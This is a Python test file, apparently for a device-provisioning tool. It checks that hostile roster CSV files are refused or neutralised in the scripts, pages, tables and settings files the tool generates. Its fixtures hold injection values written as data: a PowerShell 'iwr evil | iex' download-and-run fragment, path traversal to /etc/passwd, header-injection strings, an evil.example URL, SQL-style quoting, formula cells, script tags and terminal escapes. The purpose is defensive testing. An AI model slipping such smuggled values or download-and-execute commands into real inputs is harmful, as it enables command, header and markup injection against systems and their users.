"""Every roster of the hostile corpus, and any other, is refused or harmless in each artifact (T4-T6)."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from provisioner.errors import InputError
from tests.render.windows_samples import body
from tests.support.hostile_rollout import (
    KEY,
    SCRIPTS,
    assigned,
    check_accepted,
    check_devices,
    check_names,
    check_page,
    check_tables,
    fleet,
    rendered,
    roster_of,
)
from tests.support.pilot import Pilot
from tests.support.readback import (
    Page,
    check_run,
    check_terminal,
)

CORPUS = Path(__file__).parents[1] / "cases" / "roster"
CASES: dict[str, dict[str, Any]] = json.loads((CORPUS / "expected.json").read_text())


@pytest.mark.covers("T4", "T5", "T6", "T11", "T13", "T14", "T15", "T16", "T25", "T29")
@pytest.mark.parametrize("name", [name for name, case in CASES.items() if case["problems"]])
def test_a_refused_roster_does_nothing(pilot: Pilot, name: str) -> None:
    """Exit 2, one line per problem, nothing minted and nothing written."""
    metadata = CASES[name].get("options", {}).get("metadata_columns", [])
    (pilot.folder / "provision.toml").write_text(f"[roster]\nmetadata = {json.dumps(metadata)}\n")
    (pilot.folder / "org.csv").write_bytes((CORPUS / name).read_bytes())
    before = set(pilot.folder.rglob("*"))
    problems = CASES[name]["problems"]
    for line in (
        ["--roster", "org.csv"],
        ["plan", "--roster", "org.csv", "-o", "plan.json"],
        ["roster", "check", "org.csv"],
    ):
        ran = pilot.run(*line)
        assert ran.code == 2
        check_run(ran)
        assert ran.err.isascii()
        for row, column, code in problems:
            place = "org.csv" if row is None else f"org.csv:{row}"
            assert any(
                told.startswith(f"{place}: {column}: {code}:" if column else f"{place}: {code}:")
                for told in ran.err.splitlines()
            ), (row, column, code)
    told = pilot.run("--roster", "org.csv", "--format", "json").json
    assert [[p["row"], p["column"], p["code"]] for p in told["problems"]] == problems
    assert set(pilot.folder.rglob("*")) == before


@pytest.mark.covers("T4", "T5", "T6", "T12", "T13", "T31")
@pytest.mark.parametrize("name", [name for name, case in CASES.items() if not case["problems"]])
@pytest.mark.parametrize("person", [False, True], ids=["team", "person"])
def test_an_accepted_roster_is_harmless(name: str, person: bool) -> None:
    data = (CORPUS / name).read_bytes()
    entry = check_accepted(data, fleet(person=person)).entries[-1]
    assert [entry.email, entry.team, entry.env] == CASES[name]["harmless"]


@pytest.mark.covers("T5", "T13", "T15")
def test_an_accepted_roster_through_the_whole_tool(pilot: Pilot) -> None:
    """All harmless rows of the corpus at once, by the command line, on disk."""
    rows = [line for name, case in CASES.items() if not case["problems"] for line in _rows(name)]
    (pilot.folder / "org.csv").write_bytes(
        roster_of(*dict.fromkeys(rows), header=("email", "team", "env", "name"))
    )
    runs = [pilot.run("roster", "check", "org.csv"), pilot.run("plan", "--roster", "org.csv")]
    runs += [pilot.main_job(), pilot.main_job("--format", "json")]
    runs += [pilot.run("drift", "--html", "drift.html")]
    for ran in runs:
        assert ran.code == 0, ran.err
        check_run(ran)
    made = {path.relative_to(pilot.folder).parts[0] for path in pilot.folder.rglob("*")}
    assert made == {"org.csv", "dist", ".provision", "drift.html"}
    check_names(pilot.files())
    Page(pilot.files()["index.html"]).check()
    Page((pilot.folder / "drift.html").read_bytes()).check()
    assert not list(pilot.folder.parent.rglob("cron.d"))


def _rows(name: str) -> Iterator[tuple[str, ...]]:
    """Yield the rows of a corpus file with an address of their own, since one person has one team."""
    stem = re.sub(r"[^a-z]", "", name.partition(".")[0])
    for number, row in enumerate(csv.DictReader(io.StringIO((CORPUS / name).read_text(), newline=""))):
        yield (f"{stem}{number}@acme.com", row["team"], row["env"], row.get("name") or "")


TRICKY = [
    ("o.b-c_d+e@acme.com", "R&D (Ops), 'x': #1/2", "prod", "#&'()*,./:;=?@[]^_|~-+!"),
    ("a@acme.com", "&lt,b&gt, &amp&amp", "prod, (eu): 'west'", "x-api-key: stolen; a=b&c=d"),
    ("con@acme.com", "../..//etc/'passwd'", "Dev.", "&quot;&#10;x-portkey-config: pc-admin"),
    ("rm.-rf@acme.com", "(New-Item 'C:/x')", "d&e&f", "'; iwr evil | iex; '"),
    ("x@xn.acme.com", "Åland & Øre", "'prod'", "https://evil.example/?a=[b]#c"),
    ("aux@acme.com", "' OR '1' - '1", "a,b", "#REF!"),
]
ALLOWED = "abcXYZ 019#&'(),-./:_éøß"
DISPLAY = st.text(
    st.one_of(st.sampled_from(ALLOWED), st.sampled_from('<>"\\$`%{}\n\r\x1b\u2028=;|'), st.characters()),
    max_size=20,
)


# Mostly rows that are accepted: what is refused has its own properties in tests/roster.
DISPLAY_ALLOWED = st.text(st.sampled_from(ALLOWED), max_size=20).map(lambda text: f"T{text}1")
METADATA_ALLOWED = st.text(st.sampled_from("abcXYZ 019!#&'()*+,./:;=?@[]^_|~-"), max_size=30).map(
    "m{}".format
)
EMAIL = st.lists(st.text(st.sampled_from("abz09_"), min_size=1, max_size=5), min_size=1, max_size=4).flatmap(
    lambda words: st.sampled_from("._+-").map(lambda sign: f"{sign.join(words)}@acme.com")
)
ROW = st.one_of(
    st.tuples(EMAIL, DISPLAY_ALLOWED, DISPLAY_ALLOWED, METADATA_ALLOWED),
    st.tuples(EMAIL, DISPLAY_ALLOWED, st.just("prod"), METADATA_ALLOWED),
    st.tuples(EMAIL, DISPLAY_ALLOWED, st.just("dev"), st.one_of(METADATA_ALLOWED, DISPLAY)),
    st.tuples(st.one_of(EMAIL, DISPLAY), DISPLAY, DISPLAY, DISPLAY),
)
HEADER = ("email", "team", "env", "site")


@pytest.mark.covers("T4", "T5", "T6", "T12", "T13", "T31")
@pytest.mark.parametrize("person", [False, True], ids=["team", "person"])
@pytest.mark.parametrize("row", TRICKY, ids=[row[0] for row in TRICKY])
def test_what_an_honest_roster_may_hold_is_harmless(row: tuple[str, ...], person: bool) -> None:
    """Signs that mean something to a shell, a header or XML, and that teams are called by all the same."""
    roster = check_accepted(roster_of(row, header=HEADER), fleet(person=person, metadata=("site",)))
    assert roster.entries[0].extra == (("site", row[3]),)


@pytest.mark.covers("T4", "T5", "T6", "T12", "T13", "T31")
@settings(deadline=None, max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(rows=st.lists(ROW, min_size=1, max_size=3), person=st.booleans())
@example(rows=list(TRICKY[:5]), person=True)
@example(rows=list(TRICKY[:5]), person=False)
def test_any_roster_is_refused_or_harmless(rows: list[tuple[str, ...]], person: bool) -> None:
    of = fleet(person=person, metadata=("site",))
    try:
        check_accepted(roster_of(*rows, header=HEADER), of)
    except InputError as refused:
        for problem in refused.problems:
            check_terminal(str(problem))


@pytest.mark.covers("T12")
def test_a_serial_number_that_starts_a_formula_is_inert() -> None:
    """The one cell of ours that may begin with such a sign and is not refused."""
    header = ("email", "team", "env", "serial")
    roster = check_accepted(roster_of(("a@acme.com", "Eng", "prod", "-1-1"), header=header), fleet())
    assert roster.entries[0].serial == "-1-1"


@pytest.mark.covers("T4", "T6")
def test_without_consent_the_scripts_hold_no_key_and_the_same_bodies() -> None:
    of = fleet(consent=False)
    _, coverage = assigned(roster_of(TRICKY[0][:3]), of)
    files = rendered(coverage, of)
    windows = f"{coverage.assignments[0].name}/intune/windows"
    for name, constant in SCRIPTS.items():
        assert body(files[f"{windows}/{name}.ps1"]) == constant
        assert KEY.encode() not in base64.b64decode(
            re.findall(rb"'([A-Za-z0-9+/=]{40,})'", files[f"{windows}/{name}.ps1"])[0]
        )


@pytest.mark.covers("T4", "T5", "T12")
def test_the_checks_see_what_they_are_for() -> None:
    """A header too many, markup that lives, a formula, a path that climbs, an escape sequence."""
    of = fleet()
    _, coverage = assigned(roster_of(("a@acme.com", "plain", "prod")), of)
    assignments, good = coverage.assignments, rendered(coverage, of)
    check_names(good)
    check_devices(good, assignments)
    check_tables(good, assignments)
    check_page(good, good, assignments)
    path = "plain-prod/files/managed-settings.json"
    broken = good[path].replace(b'ANTHROPIC_CUSTOM_HEADERS": "', b'ANTHROPIC_CUSTOM_HEADERS": "x: y\\n')
    assert broken != good[path]
    with pytest.raises((AssertionError, ValueError)):
        check_devices({**good, path: broken}, assignments)
    scope = good["plain-prod/scope.csv"]
    with pytest.raises(AssertionError):
        check_tables({**good, "plain-prod/scope.csv": scope + b"=1+1,,\n"}, assignments)
    with pytest.raises(AssertionError):
        check_names({**good, "../x": b""})
    page = good["index.html"].replace(b"</h1>", b"<script>1</script></h1>")
    with pytest.raises(AssertionError):
        check_page({"index.html": page}, good, assignments)
    page = good["index.html"].replace(b"<h1", b"<h1 onclick='x'")
    with pytest.raises(AssertionError):
        Page(page).check()
    for text in ("\x1b[2J", "a\rb", "\u202ex"):
        with pytest.raises(AssertionError):
            check_terminal(text)
